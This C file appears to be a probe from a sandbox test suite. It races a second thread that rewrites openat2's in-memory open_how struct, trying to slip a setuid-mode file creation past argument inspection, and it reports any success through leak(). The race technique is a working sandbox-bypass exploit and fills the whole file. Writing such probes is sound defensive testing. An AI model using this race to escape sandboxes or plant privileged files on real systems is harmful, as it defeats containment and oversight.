/* A file that runs as its owner: the mode of openat2 lies in memory, and changes while the call is looked at. */
#include "attack.h"

static volatile struct open_how how;
static volatile int stop;

static void *flip(void *x) {
  while (!stop) {
    how.mode = 0, how.flags = O_PATH;
    for (volatile int i = 0; i < 200; i++);
    how.flags = O_CREAT | O_WRONLY, how.mode = 04755;
    for (volatile int i = 0; i < 200; i++);
  }
}

int main(void) {
  struct stat st;
  char p[300];
  int tried = 0;
  snprintf(p, sizeof p, "%s/setid", getenv("TMPDIR"));
  pthread_t t;
  pthread_create(&t, 0, flip, 0);
  for (long n = ROUNDS(1500); n > 0; n--, tried++) {
    int fd = syscall(SYS_openat2, AT_FDCWD, p, &how, sizeof how);
    if (fd >= 0) close(fd);
    if (stat(p, &st)) continue;
    if (st.st_mode & 06000) { leak("a file that runs as its owner"); break; }
    unlink(p);
  }
  stop = 1;
  pthread_join(t, 0);
  if (!rename(p, "src/setid") && !stat("src/setid", &st) && st.st_mode & 06000) leak("a file in the workspace that runs as its owner");
  if (tried > 100) good("tries");
}
